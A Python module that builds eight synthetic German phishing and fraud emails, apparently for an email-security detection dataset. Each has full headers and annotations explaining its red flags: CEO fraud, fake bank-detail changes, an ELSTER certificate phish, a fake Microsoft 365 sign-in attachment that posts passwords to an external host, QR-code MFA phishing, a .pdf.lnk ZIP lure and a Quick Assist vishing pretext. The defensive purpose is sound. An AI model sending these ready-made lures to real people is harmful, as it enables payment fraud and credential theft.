"""Attack messages 01-08 (German)."""
import files
import ids
import infra
from company import BANK, S, C
from helpers import alt, esc, html_gmail, html_outlook, html_tb, mixed, pdf_att, qr_img, quote_gt, \
    quote_outlook, related, zip_att
from mime import Bin, Multi, Text

MSGS = []


def reg(f):
    MSGS.append(f)
    return f


def A(num, lang, slug, **kw):
    d = dict(folder='attack', num=num, lang=lang, slug=slug)
    d.update(kw)
    return d


# ---------------------------------------------------------------------------------------------
@reg
def a01():
    text = """Hallo Sabine,

ich bin seit heute früh in Wien bei den abschließenden Gesprächen zur Übernahme der Sprachschule, über die wir im Sommer kurz im Beirat gesprochen haben. Die Due Diligence ist durch, der Notartermin ist morgen um 9 Uhr.

Bis zur offiziellen Bekanntgabe gilt strikte Vertraulichkeit – das verlangt die Gegenseite ausdrücklich, und intern wissen bisher nur du und ich Bescheid. Bitte sprich deshalb auch mit Monika und Anja vorerst nicht darüber.

Zur Sicherung der Exklusivität müssen wir heute noch eine Anzahlung von 86.400,00 EUR auf das Anderkonto der begleitenden Kanzlei leisten. Dr. Albrecht Steiner (Steiner & Partner Rechtsanwälte) betreut die Transaktion und schickt dir gleich die Kontodaten und die Treuhandvereinbarung.

Kannst du mir kurz bestätigen, dass du heute bis 15 Uhr eine Auslandsüberweisung freigeben kannst? Ich sitze den ganzen Tag in Besprechungen und bin telefonisch nicht erreichbar – schreib mir bitte einfach hier zurück.

Danke dir!
Jürgen

Von meinem iPhone gesendet"""
    return A(1, 'de', 'ceo-fraud-confidential-acquisition',
             date='2026-11-03 08:47:12', zone='DE',
             to=[S('cfo')],
             env_from='juergen.koehler@exarnple.com',
             **{'from': ('Jürgen Köhler', 'juergen.koehler@exarnple.com')},
             subject='Vertraulich – Projekt Donau',
             hcs=('utf-8', 'Q'),
             body=Text(text, 'plain', 'utf-8', 'quoted-printable'),
             infra=infra.postfix,
             ikw=dict(helo='mail.exarnple.com', rdns='vmi2284617.contaboserver.net', ip='161.97.141.208',
                      submit_ip='102.89.47.113', ua='iPhone Mail (22B91)'),
             what='CEO fraud: "Jürgen Köhler" asks the CFO to release a confidential foreign transfer of 86,400 EUR '
                  'for an acquisition; a "lawyer" will send the account details.',
             why='Look-alike domain exarnple.com ("rn" for "m") on a Contabo VPS, not the internal relay; secrecy '
                 '(do not tell AP or the CEO assistant), same-day deadline, CEO "unreachable by phone", announces a '
                 'fake lawyer (classic CEO/lawyer BEC). Submitted from a Nigerian mobile IP.')


@reg
def a02():
    iban = BANK['fraud_de_neo']
    text = f"""Sehr geehrte Frau Brandt,

im Zuge der Zusammenführung unserer Konten im Rahmen der Umstellung auf die E-Rechnung ändert sich die Bankverbindung der Lieferant GmbH mit sofortiger Wirkung. Das bisherige Konto bei der Sparkasse Mainz wird zum 30.11.2026 aufgelöst; eingehende Zahlungen können dort ab Mitte November nicht mehr gutgeschrieben werden.

Bitte hinterlegen Sie ab sofort ausschließlich die folgende Verbindung in Ihrem Kreditorenstamm:

Kontoinhaber: Lieferant GmbH
IBAN: {ids.fmt_iban(iban)}
BIC: NTSBDEB1XXX

Dies betrifft insbesondere die noch offenen Rechnungen RE-2026-10412 (3.184,20 EUR) und RE-2026-10587 (1.947,75 EUR), deren Fälligkeit in den nächsten Tagen erreicht wird. Die offizielle Mitteilung auf unserem Briefbogen finden Sie im Anhang.

Da unsere Telefonanlage diese Woche auf ein neues System umgestellt wird, sind wir telefonisch nur eingeschränkt erreichbar. Für Rückfragen antworten Sie bitte direkt auf diese E-Mail; eine kurze Bestätigung der Änderung wäre sehr hilfreich.

Vielen Dank für Ihre Unterstützung und freundliche Grüße

Petra Lang
Vertriebsinnendienst / Debitorenmanagement

Lieferant GmbH
Rheinallee 114 | 55120 Mainz
Tel. +49 6131 488 27-0"""
    letter = ['Lieferant GmbH', 'Rheinallee 114 - 55120 Mainz', '',
              'Example Group GmbH', 'Kreditorenbuchhaltung', 'Hohenzollernring 58', '50672 Köln', '',
              ('Mainz, 09.11.2026', 10), '',
              ('Mitteilung über die Änderung unserer Bankverbindung', 12, 'B'), '',
              'Sehr geehrte Damen und Herren,',
              'hiermit teilen wir Ihnen mit, dass sich unsere Bankverbindung mit sofortiger Wirkung ändert.',
              'Bitte veranlassen Sie alle künftigen Zahlungen ausschließlich auf das folgende Konto:', '',
              'Kontoinhaber: Lieferant GmbH', 'IBAN: ' + ids.fmt_iban(iban), 'BIC: NTSBDEB1XXX', '',
              'Das bisherige Konto wird zum 30.11.2026 geschlossen.', '',
              'Mit freundlichen Grüßen', '', 'Lieferant GmbH', 'i. A. Petra Lang', '',
              ('Geschäftsführer: Stefan Maier - Amtsgericht Mainz HRB 48112 - USt-IdNr. DE149267313', 8)]
    body = mixed(alt(text, html_outlook(text, 'windows-1252'), 'windows-1252', 'quoted-printable'),
                 pdf_att('Mitteilung_Bankverbindung_Lieferant_GmbH.pdf', letter,
                         title='Mitteilung Bankverbindung', author='Petra Lang',
                         date="D:20261109101512+01'00'"))
    return A(2, 'de', 'supplier-bank-change-lookalike',
             date='2026-11-09 10:22:41', zone='DE',
             **{'from': ('Petra Lang', 'p.lang@lieferant-gmbh.com')}, to=[S('ap')],
             subject='Änderung unserer Bankverbindung – bitte ab sofort verwenden',
             hcs=('iso-8859-1', 'Q'),
             body=body, infra=infra.exo,
             ikw=dict(region='eur', lang='de-DE', topic='Änderung unserer Bankverbindung – bitte ab sofort verwenden',
                      has_attach=True),
             what='Supplier bank-detail change "from Petra Lang of Lieferant GmbH" with a PDF letter and a new neobank IBAN, '
                  'naming two open invoices.',
             why='Sender domain lieferant-gmbh.com is a look-alike of the real lieferant-gmbh.de (own M365 tenant, not the '
                 "supplier's); change effective immediately, open invoices named to create urgency, phone channel "
                 'discouraged ("Telefonanlage wird umgestellt"), replies kept in the mail channel. Genuine change: business 02.')


@reg
def a03():
    link = 'https://0x3jf.r.sp1-brevo.net/mk/cl/f/sh/SMJz09Zt7IQ0Ot1WpWkKHhu8vO3c/dDEzT0pRQkRwRzRP'
    text = f"""Ihr Online-Finanzamt – Mein ELSTER

Sehr geehrte Nutzerin, sehr geehrter Nutzer,

das Organisationszertifikat, mit dem Sie sich für die Steuernummer 215/5734/0912 bei Mein ELSTER anmelden, läuft am 30.11.2026 ab.

Ab diesem Zeitpunkt können Umsatzsteuer-Voranmeldungen, Lohnsteuer-Anmeldungen und Zusammenfassende Meldungen nicht mehr elektronisch übermittelt werden. Verspätet abgegebene Anmeldungen können gemäß § 152 AO einen Verspätungszuschlag nach sich ziehen.

Bitte verlängern Sie Ihr Zertifikat rechtzeitig. Der Vorgang dauert etwa 3 Minuten; Ihre bisherige Zertifikatsdatei und Ihr Passwort werden dafür benötigt.

Zertifikat jetzt verlängern:
{link}

Mit freundlichen Grüßen
Ihr ELSTER-Team

Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail."""
    html = f"""<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Mein ELSTER</title></head>
<body style="margin:0;background:#eef1f4;font-family:Arial,Helvetica,sans-serif;color:#1b1b1b">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 8px">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-top:6px solid #004b87">
<tr><td style="padding:20px 28px;font-size:20px;font-weight:bold;color:#004b87">ELSTER <span style="font-weight:normal;color:#555">Ihr Online-Finanzamt</span></td></tr>
<tr><td style="padding:0 28px 8px 28px;font-size:15px;line-height:22px">
<p>Sehr geehrte Nutzerin, sehr geehrter Nutzer,</p>
<p>das Organisationszertifikat, mit dem Sie sich für die Steuernummer <b>215/5734/0912</b> bei Mein ELSTER anmelden, läuft am <b>30.11.2026</b> ab.</p>
<p>Ab diesem Zeitpunkt können Umsatzsteuer-Voranmeldungen, Lohnsteuer-Anmeldungen und Zusammenfassende Meldungen nicht mehr elektronisch übermittelt werden. Verspätet abgegebene Anmeldungen können gemäß § 152 AO einen Verspätungszuschlag nach sich ziehen.</p>
<p>Bitte verlängern Sie Ihr Zertifikat rechtzeitig. Der Vorgang dauert etwa 3 Minuten; Ihre bisherige Zertifikatsdatei und Ihr Passwort werden dafür benötigt.</p>
</td></tr>
<tr><td align="center" style="padding:12px 28px 24px 28px"><a href="{link}" style="background:#004b87;color:#ffffff;text-decoration:none;padding:12px 26px;font-weight:bold;display:inline-block">Zertifikat jetzt verlängern</a></td></tr>
<tr><td style="padding:0 28px 24px 28px;font-size:12px;color:#666">Mit freundlichen Grüßen<br>Ihr ELSTER-Team<br><br>Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.</td></tr>
</table></td></tr></table>
<img width="1" height="1" src="https://0x3jf.r.sp1-brevo.net/tr/op/Kq2vZ1w0Bf8xR4mN" alt="">
</body></html>"""
    return A(3, 'de', 'elster-certificate-phish-brevo',
             date='2026-11-17 06:58:03', zone='DE',
             **{'from': ('ELSTER - Ihr Online-Finanzamt', 'benachrichtigung@elster-zertifikat.de')},
             to=[S('de_acc')],
             env_from='bounces-91548-7734@elster-zertifikat.de',
             subject='Ihr ELSTER-Organisationszertifikat läuft am 30.11.2026 ab',
             body=alt(text, html, 'utf-8', 'quoted-printable'),
             infra=infra.brevo, ikw=dict(from_dom='elster-zertifikat.de'),
             extra=[('List-Unsubscribe', '<https://0x3jf.r.sp1-brevo.net/mk/un/v2/sh/SMJz09Zt7IQ0Ot1WpWkKHhu8vO3c>'),
                    ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click')],
             what='ELSTER (German tax portal) "organisation certificate expires" notice sent through Brevo, link to a '
                  'certificate "renewal" page that asks for the certificate file and its password.',
             why='ELSTER never mails from elster-zertifikat.de or through a marketing ESP; renewal happens inside Mein '
                 'ELSTER; the target page harvests the .pfx certificate and PIN (full tax-account takeover); penalty '
                 'threat (§ 152 AO) as pressure.')


@reg
def a04():
    text = """Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung RE-2026-11873 im Format XRechnung (E-Rechnung nach EN 16931) über die Lieferung der Kursbücher für das Wintersemester.

Aus Sicherheitsgründen ist das Dokument geschützt. Zum Öffnen melden Sie sich bitte mit Ihrem Geschäftskonto an.

Rechnungsbetrag: 4.718,36 EUR
Fällig: 27.11.2026

Mit freundlichen Grüßen

Lieferant GmbH
Rechnungswesen"""
    page = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Microsoft 365 - Geschuetztes Dokument</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f3f2f1;margin:0}
.box{width:420px;margin:80px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;padding:8px 4px;margin:8px 0;border:0;border-bottom:1px solid #666;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:9px 30px;float:right;font-size:15px}
.doc{background:#f7f7f7;border-left:4px solid #2b579a;padding:10px;margin:14px 0;font-size:13px}</style></head>
<body><div class="box">
<div style="font-size:20px;font-weight:600">Microsoft</div>
<h2 style="font-weight:600;font-size:22px">Anmelden, um das Dokument anzuzeigen</h2>
<div class="doc">RE-2026-11873_XRechnung.pdf<br>Freigegeben von: rechnungen@lieferant-gmbh.de<br>Groesse: 218 KB</div>
<form method="post" action="https://lieferant-docs.azureedge-cdn.top/owa/auth.php">
<input type="hidden" name="ref" value="RE-2026-11873">
<input type="email" name="login" value="monika.brandt@example.com" placeholder="E-Mail, Telefon oder Skype">
<input type="password" name="passwd" placeholder="Kennwort">
<p style="font-size:13px">Ihre Sitzung ist abgelaufen. Bitte bestaetigen Sie Ihr Kennwort.</p>
<button type="submit">Anmelden</button></form>
<div style="clear:both"></div></div></body></html>
"""
    body = mixed(Text(text, 'plain', 'iso-8859-1', '8bit'),
                 Bin(page.encode('utf-8'), 'text/html; charset="utf-8"', 'RE-2026-11873_XRechnung.html', cte='base64'))
    return A(4, 'de', 'xrechnung-html-credential-attachment',
             date='2026-11-12 14:03:55', zone='DE',
             **{'from': ('Lieferant GmbH - Rechnungswesen', 'info@haustechnik-brenner.de')},
             to=[S('ap')],
             subject='E-Rechnung RE-2026-11873 - Lieferant GmbH',
             hcs=('iso-8859-1', 'Q'),
             body=body, infra=infra.exim,
             ikw=dict(host='srv14.webhosting-rz.de', ip='85.13.149.62', client_ip='45.133.172.19',
                      mailer='PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)'),
             what='Fake "XRechnung" e-invoice from "Lieferant GmbH" with an HTML attachment that imitates a Microsoft 365 '
                  'sign-in pre-filled with the recipient\'s address.',
             why='Real sender is a compromised heating-installer mailbox (haustechnik-brenner.de, PHPMailer on shared '
                 'hosting) with only the display name of the supplier; an XRechnung is an XML file, not HTML; the '
                 'attachment posts the password to an external host. Genuine invoice with PDF+XML: business 03.')


@reg
def a05():
    iban = ids.iban('DE', '11010100' + '6472289013')
    html = f"""<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;"><div>Hallo Frau Schäfer,</div>

<div>&nbsp;</div>

<div>ich habe zum Monatsende meine Bank gewechselt und möchte Sie bitten, mein Gehalt ab der Novemberabrechnung auf das neue Konto zu überweisen:</div>

<div>&nbsp;</div>

<div>Kontoinhaberin: Nina Hartmann<br/>
IBAN: {ids.fmt_iban(iban)}<br/>
Bank: Solaris</div>

<div>&nbsp;</div>

<div>Das alte Konto bei der Sparkasse wird bereits gekündigt, deshalb wäre es wichtig, dass die Änderung noch vor dem Abrechnungslauf drin ist. Im Personalportal komme ich gerade nicht weiter, mein Passwort wird nicht angenommen &ndash; deshalb schreibe ich Ihnen von meiner privaten Adresse.</div>

<div>&nbsp;</div>

<div>Ich bin diese Woche mit den Prüfungen in Düsseldorf unterwegs und schlecht erreichbar, eine kurze Bestätigung per Mail reicht mir völlig.</div>

<div>&nbsp;</div>

<div>Vielen Dank und viele Grüße</div>

<div>Nina Hartmann</div></div></body></html>"""
    return A(5, 'de', 'payroll-diversion-private-mail',
             date='2026-11-18 21:14:37', zone='DE',
             **{'from': ('Nina Hartmann', 'nina.hartmann.83@web.de')}, to=[S('hr')],
             subject='Neue Bankverbindung für Gehalt',
             hcs=('utf-8', 'Q'), hlabel='UTF-8',
             body=Text(html, 'html', 'utf-8', 'quoted-printable', label='UTF-8'),
             infra=infra.gmx, ikw=dict(brand='webde', webmail=True, client_ip='185.220.{0}.{1}'),
             what='Payroll diversion: "Nina Hartmann" (exam centre coordinator) asks HR from a web.de address to pay her '
                  'salary to a new account before the payroll run.',
             why='Address not on file for the employee, sent late evening via Tor exit address (185.220.x.x), '
                 'bypasses the HR portal ("password not accepted"), deadline before payroll, neobank account, '
                 'asks for confirmation only by e-mail and avoids phone contact. Genuine private-mail colleague: business 05.')


@reg
def a06():
    url = 'https://login.examplegroup-support.com/mfa/enroll?sid=7KQ2ZP4M&u=anVsaWEua3JhZW1lckBleGFtcGxlLmNvbQ'
    text = """Hallo Julia Krämer,

im Rahmen der Umstellung auf die neue Microsoft-Sicherheitsrichtlinie müssen alle Mitarbeitenden der Example Group ihre Multi-Faktor-Authentifizierung (MFA) bis zum 20.11.2026 neu registrieren. Konten ohne erneute Registrierung werden danach bis zur Freischaltung durch den IT-Service gesperrt.

So gehen Sie vor:
1. Öffnen Sie die Kamera-App Ihres Smartphones.
2. Scannen Sie den QR-Code in dieser E-Mail.
3. Melden Sie sich mit Ihren gewohnten Zugangsdaten an und bestätigen Sie die Anfrage in der Authenticator-App.

Der Vorgang dauert weniger als zwei Minuten. Der QR-Code ist aus Sicherheitsgründen nur 48 Stunden gültig.

Vielen Dank für Ihre Unterstützung
Ihr IT-Service
Example Group"""
    html = """<html><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">
<p>Hallo Julia Krämer,</p>
<p>im Rahmen der Umstellung auf die neue Microsoft-Sicherheitsrichtlinie müssen alle Mitarbeitenden der Example Group ihre <b>Multi-Faktor-Authentifizierung (MFA)</b> bis zum <b>20.11.2026</b> neu registrieren. Konten ohne erneute Registrierung werden danach bis zur Freischaltung durch den IT-Service gesperrt.</p>
<p><b>So gehen Sie vor:</b></p>
<ol><li>Öffnen Sie die Kamera-App Ihres Smartphones.</li>
<li>Scannen Sie den folgenden QR-Code.</li>
<li>Melden Sie sich mit Ihren gewohnten Zugangsdaten an und bestätigen Sie die Anfrage in der Authenticator-App.</li></ol>
<p><img src="cid:mfa-qr-7KQ2ZP4M@examplegroup-support.com" width="222" height="222" alt="QR-Code"></p>
<p>Der Vorgang dauert weniger als zwei Minuten. Der QR-Code ist aus Sicherheitsgründen nur 48 Stunden gültig.</p>
<p>Vielen Dank für Ihre Unterstützung<br>Ihr IT-Service<br>Example Group</p>
</body></html>"""
    body = related(alt(text, html, 'utf-8', 'base64'),
                   qr_img(url, cid='mfa-qr-7KQ2ZP4M@examplegroup-support.com', filename='qr.png'))
    return A(6, 'de', 'mfa-reenrolment-quishing',
             date='2026-11-16 07:31:20', zone='DE',
             **{'from': ('IT-Service Example Group', 'it-service@examplegroup-support.com')},
             to=[S('sales')],
             env_from='010201934b7f2c1e-mfa@mail.examplegroup-support.com',
             subject='Aktion erforderlich: MFA-Neuregistrierung bis 20.11.2026',
             body=body, infra=infra.ses, ikw=dict(region='eu-central-1'),
             expect_qr=[url],
             what='Quishing: "IT-Service Example Group" demands MFA re-registration by scanning an inline QR code.',
             why='External look-alike domain examplegroup-support.com sent via Amazon SES (internal IT notices come '
                 'through mail-int01); QR code leads to an adversary-in-the-middle login page outside Microsoft; lockout '
                 'threat and 48-hour limit. Genuine IT notice: business 06.')


@reg
def a07():
    text = """Sehr geehrte Damen und Herren,

wir zeigen an, dass wir die rechtlichen Interessen der Lehrwerk Verlagsgesellschaft mbH, Stuttgart, vertreten. Eine auf uns lautende Vollmacht liegt dem Archiv bei.

Unserer Mandantin liegen Nachweise vor, dass in Ihren Kursen am Standort Köln im Zeitraum September bis Oktober 2026 vollständige Kapitel des urheberrechtlich geschützten Lehrwerks "Perspektive Beruf B2" vervielfältigt und an Teilnehmende ausgegeben wurden, ohne dass hierfür eine Lizenz nach § 60a UrhG oder eine vertragliche Vereinbarung bestand.

Namens und im Auftrag unserer Mandantin fordern wir Sie auf,
1. die beigefügte strafbewehrte Unterlassungserklärung bis zum 26.11.2026 unterzeichnet zurückzusenden,
2. Schadensersatz im Wege der Lizenzanalogie in Höhe von 6.850,00 EUR zu leisten,
3. die Kosten unserer Inanspruchnahme aus einem Gegenstandswert von 20.000,00 EUR zu erstatten.

Die Fotodokumentation, die Unterlassungserklärung und die Kostennote haben wir aus datenschutzrechtlichen Gründen in einem verschlüsselten Archiv zusammengefasst.
Kennwort für das Archiv: LV-4471-26

Sollte die Frist fruchtlos verstreichen, werden wir unserer Mandantin empfehlen, ohne weitere Ankündigung gerichtliche Hilfe in Anspruch zu nehmen.

Mit freundlichen Grüßen

Dr. Henrik Vossberg
Rechtsanwalt
Fachanwalt für Urheber- und Medienrecht

Vossberg Rechtsanwälte
Königsallee 61, 40212 Düsseldorf"""
    z = zip_att('Abmahnung_Az-2026-4471-VB.zip',
                [('Abmahnung_Az-2026-4471-VB/Unterlassungserklaerung_und_Fotodokumentation.pdf.lnk', files.PLACEHOLDER),
                 ('Abmahnung_Az-2026-4471-VB/Vollmacht.pdf.lnk', files.PLACEHOLDER)],
                password='LV-4471-26', seed='a07')
    body = mixed(Text(text, 'plain', 'iso-8859-15', 'quoted-printable'), z)
    return A(7, 'de', 'fake-lawyer-copyright-encrypted-zip',
             date='2026-11-19 11:26:48', zone='DE',
             **{'from': ('RA Dr. Henrik Vossberg', 'kanzlei.vossberg@t-online.de')},
             to=[S('de_mgr')],
             subject='Abmahnung wegen Urheberrechtsverletzung - Az. 2026/4471-VB',
             body=body,
             infra=lambda c: infra._res(
                 ('mailout11.t-online.de', 'mailout11.t-online.de', '194.25.134.85'),
                 [f'from fwd87.aul.t-online.de (fwd87.aul.t-online.de [10.223.144.113])\n\tby mailout11.t-online.de (Postfix) with SMTP id 4F1{c.an(9)}\n\tfor <{c.rcpt}>; {c.tm(1, "DE", True)}',
                  f'from [192.168.2.{c.rng.randrange(20, 90)}] ([45.84.107.{c.rng.randrange(2, 250)}]) by fwd87.aul.t-online.de\n\twith (TLSv1.3:TLS_AES_256_GCM_SHA384 encrypted)\n\tesmtp id 1t{c.an(5)}-{c.an(6)}; {c.tm(0, "DE")}'],
                 f'<{c.uuid()}@t-online.de>', c.tm(0, 'DE'), lambda i: '------------' + c.an(24),
                 post=[('User-Agent', 'Mozilla Thunderbird'), ('Content-Language', 'de-DE'),
                       ('X-TOI-MSGID', c.uuid())]),
             expect_zip='LV-4471-26',
             what='Fake copyright "Abmahnung" from a Düsseldorf lawyer with a password-protected ZIP '
                  '(ZipCrypto) containing .pdf.lnk files.',
             why='Law firms do not send warning letters from a t-online.de freemail box with encrypted archives; the '
                 'password in the body is only there to defeat gateway scanning; double extension .pdf.lnk (shortcut '
                 'launcher); submitted from a hosting IP; deadline and cost threat.')


@reg
def a08():
    text = """Guten Tag Frau Brandt,

unser Monitoring hat festgestellt, dass Ihr Postfach seit heute Morgen massenhaft mit Spam- und Newsletter-Nachrichten überflutet wird (aktuell über 2.300 Anmeldebestätigungen). Es handelt sich um einen gezielten Angriff, der wichtige Nachrichten in Ihrem Posteingang verdrängen soll.

Um den Filter direkt auf Ihrem Gerät zu aktivieren, ruft Sie unser Kollege Herr Krause vom 2nd-Level-Support in den nächsten 15 Minuten über Microsoft Teams an (Anzeige: "IT Helpdesk | Example Group").

Bitte halten Sie für den Termin die Windows-Schnellhilfe bereit (Tastenkombination Strg + Windows + Q). Herr Krause nennt Ihnen einen 6-stelligen Sicherheitscode, damit er die Einstellungen für Sie vornehmen kann. Der Vorgang dauert etwa 10 Minuten; Sie können währenddessen normal weiterarbeiten.

Bitte löschen Sie die Spam-Nachrichten nicht selbst, da sie für die Analyse benötigt werden.

Mit freundlichen Grüßen
IT-Helpdesk
Example Group – Zentrale IT Köln"""
    return A(8, 'de', 'email-bombing-teams-quick-assist-vishing',
             date='2026-11-24 10:41:09', zone='DE',
             **{'from': ('IT Helpdesk | Example Group', 'helpdesk@examplegroupit.onmicrosoft.com')},
             to=[S('ap')],
             subject='Spam-Welle auf Ihrem Postfach – Rückruf durch den IT-Support',
             hcs=('utf-8', 'B'),
             body=alt(text, html_outlook(text, 'utf-8'), 'utf-8', 'base64'),
             infra=infra.exo, ikw=dict(region='nam', lang='de-DE',
                                       topic='Spam-Welle auf Ihrem Postfach – Rückruf durch den IT-Support'),
             what='Remote-access vishing pretext after e-mail bombing: "IT Helpdesk" announces a Teams call and asks the '
                  'user to start Windows Quick Assist and accept the caller\'s security code.',
             why='Sent from an external free M365 tenant (examplegroupit.onmicrosoft.com) in a US datacenter, not the '
                 'internal helpdesk; Quick Assist over an external Teams call hands the PC to the attacker (known '
                 'ransomware-affiliate playbook); asks not to delete the spam. Genuine IT notice: business 06.')
